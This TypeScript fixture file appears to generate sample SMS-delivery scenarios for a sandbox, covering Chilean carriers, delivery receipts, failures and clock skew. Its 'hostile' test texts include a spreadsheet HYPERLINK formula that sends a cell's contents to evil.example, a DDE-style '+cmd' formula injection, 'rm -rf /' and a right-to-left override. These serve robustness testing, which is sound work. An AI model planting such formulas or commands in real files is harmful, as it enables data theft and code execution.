import { secondsInDay, secondsInHour, secondsInMinute } from 'date-fns/constants';
import { createDraw, type Draw } from './draw.ts';
import type { Fate, SandboxMessage } from './message.ts';
import { codeText, deliveryText, marketingText, reminderText } from './senders.ts';

const handOver = { saysAfter: 2, knownAfter: 3 };
const neverHandedOver: Fate = { pending: 'accepted' };
const stuck: Fate = { pending: 'enroute', handOver };
const noReceipts: Fate = { pending: 'sent', handOver: { saysAfter: 4, knownAfter: 5 } };
const sentFailed: Fate = { pending: 'sent', handOver, receipt: { status: 'sent_failed', knownAfter: 6 } };
const undeliverable = received('sent', 41, 44, 'undeliverable');
const prompt = received('sent', 8, 10);
const slowReceipt = received('enroute', 9, 10 * secondsInMinute + 20);
const late = received('enroute', 25 * secondsInMinute, 25 * secondsInMinute + 3);
const clockOff: Fate = {
  pending: 'sent',
  handOver: { saysAfter: 2 - 2 * secondsInHour, knownAfter: 3 },
  receipt: { status: 'delivered', saysAfter: 9 - 2 * secondsInHour, knownAfter: 11 },
};

function received(pending: string, saysAfter: number, knownAfter: number, status = 'delivered'): Fate {
  return { pending, handOver, receipt: { status, saysAfter, knownAfter } };
}

/** One message of a named number, the same every day but for its text. */
interface Scene {
  /** Second of the UTC day. Office hours in Chile are about 13:00 to 22:00 UTC all year. */
  readonly second: number;
  readonly sender: string;
  readonly write: (draw: Draw) => string;
  readonly fate: Fate;
}

const from =
  (sender: string, write: Scene['write']) =>
  (time: string, fate: Fate): Scene => ({
    second: Date.parse(`1970-01-01T${time}Z`) / 1000,
    sender,
    write,
    fate,
  });

const code = from('56001', codeText);
const reminder = from('56002', reminderText);
const offer = from('56003', marketingText);
const parcel = from('56004', deliveryText);
const nothing = from('-', () => '-');

/** The same scene all day long, from the first second of the day. */
function every(seconds: number, scene: Scene): readonly Scene[] {
  return Array.from({ length: secondsInDay / seconds }, (_, turn) => ({ ...scene, second: turn * seconds }));
}

/** Texts that break a careless view, spreadsheet or log; the fifth has a right-to-left override. */
const hostileTexts: readonly string[] = [
  '<!channel> <!here> <!everyone> aviso urgente',
  'Hola <@U1>, revise <#C1|general> y <!subteam^S1>',
  '<https://evil.example|click> para ganar & cobrar <b>ya</b>',
  '```rm -rf /``` y `código` *negrita* _cursiva_ ~tachado~ &amp; > cita',
  'Su saldo es \u202e000.1$ hoy\u0007\u200b',
  ''.padEnd(4000, 'Texto muy largo, una y otra vez. '),
  '=HYPERLINK("https://evil.example/?x="&A1,"premio")',
  '+cmd|\' /C calc\'!A0\r\n@SUM(1+1)*"comillas", "coma"; punto y coma\n-2+3',
];

const hostileScenes = hostileTexts.map((text, turn): Scene => {
  const scene = offer('12:15:00', prompt);
  return { ...scene, second: scene.second + turn * 75 * secondsInMinute, write: () => text };
});

/** A number with messages that show the same case on any day. */
interface Story {
  /** As people write it, such as `+56 9 1234 5678`. */
  readonly number: string;
  readonly operator: string;
  readonly about: string;
  readonly scenes: readonly Scene[];
  readonly isLost?: true;
}

const storiesByName = {
  delivered: {
    number: '+56 9 1234 5678',
    operator: 'Entel',
    about: 'all is well: delivered by Entel within seconds',
    scenes: [code('13:05:20', prompt), reminder('16:30:40', prompt), code('21:45:10', prompt)],
  },
  failed: {
    number: '+56 9 1111 0001',
    operator: 'Claro',
    about: 'every message fails at the operator: sent_failed, later in the day undeliverable',
    scenes: [
      ...[code('12:48:05', sentFailed), code('15:20:31', sentFailed)],
      ...[reminder('19:10:44', undeliverable), code('22:02:17', undeliverable)],
    ],
  },
  waiting: {
    number: '+56 9 1111 0002',
    operator: 'Movistar',
    about: 'the newest message always waits for its receipt, which takes 10 min 20 s to reach the platform',
    scenes: every(600, code('00:00:00', slowReceipt)),
  },
  stuck: {
    number: '+56 9 1111 0003',
    operator: 'WOM',
    about: 'handed over, then no receipt ever: enroute',
    scenes: [code('14:02:09', stuck), parcel('20:17:52', stuck)],
  },
  'no-hand-over': {
    number: '+56 9 1111 0004',
    operator: 'Entel',
    about: 'accepted by the platform, never handed over',
    scenes: [code('13:33:13', neverHandedOver), code('19:41:27', neverHandedOver)],
  },
  dashes: {
    number: '+56 9 1111 0005',
    operator: '-',
    about: 'the platform kept nothing but the number: every other field is "-"',
    scenes: [nothing('12:20:00', neverHandedOver), nothing('18:50:00', neverHandedOver)],
    isLost: true,
  },
  'clock-off': {
    number: '+56 9 1111 0006',
    operator: 'VTR',
    about: "delivered, but the operator's clock is two hours behind",
    scenes: [code('13:11:30', clockOff), reminder('17:08:02', clockOff), code('21:26:48', clockOff)],
  },
  hostile: {
    number: '+56 9 1111 0007',
    operator: 'Movistar',
    about: 'texts with Slack markup, formulas, control characters, 4,000 characters',
    scenes: hostileScenes,
  },
  many: {
    number: '+56 9 1111 0008',
    operator: 'Movistar',
    about: 'hundreds of messages',
    scenes: every(576, offer('00:00:00', prompt)),
  },
  none: { number: '+56 9 1111 0009', operator: '-', about: 'never any message', scenes: [] },
  late: {
    number: '+56 9 1111 0010',
    operator: 'WOM',
    about: 'delivered, now and then only after 25 minutes',
    scenes: [
      ...[code('13:15:35', prompt), code('15:40:18', late)],
      ...[parcel('18:05:51', prompt), code('21:20:06', late)],
    ],
  },
  'no-receipts': {
    number: '+56 9 1111 0011',
    operator: 'Ruta Andina',
    about: 'an operator that never sends receipts (Ruta Andina): sent for ever',
    scenes: [code('14:25:45', noReceipts), offer('20:52:33', noReceipts)],
  },
  foreign: {
    number: '+34 612 345 678',
    operator: 'Orange ES',
    about: 'a number in Spain, delivered',
    scenes: [code('12:55:29', prompt), parcel('18:35:57', prompt)],
  },
} satisfies Record<string, Story>;

export type StoryName = keyof typeof storiesByName;

export const stories = Object.entries<Story>(storiesByName).map(([name, story]) => ({
  ...story,
  name: name as StoryName,
}));

/** Each story has a thousand places of a day of its own. */
const PLACES_PER_STORY = 1000;

const scenes = stories.flatMap(({ number, operator, scenes, isLost }, index) =>
  scenes.map((scene, turn) => ({
    ...scene,
    place: index * PLACES_PER_STORY + turn,
    msisdn: number.replaceAll(/\D/g, ''),
    operator,
    ...(isLost && { lost: isLost }),
  })),
);
const inTimeOrder = scenes.toSorted((a, b) => a.second - b.second || a.place - b.place);

/** The messages of all named numbers, or of one, on a UTC day, in time order. */
export function storyMessages(seed: number, day: number, msisdn?: string): readonly SandboxMessage[] {
  return inTimeOrder
    .filter((scene) => msisdn === undefined || scene.msisdn === msisdn)
    .map(({ second, write, ...scene }) => ({
      ...scene,
      day,
      text: write(createDraw(seed, day, scene.place, 0xf)),
      submittedAt: day * secondsInDay + second,
    }));
}
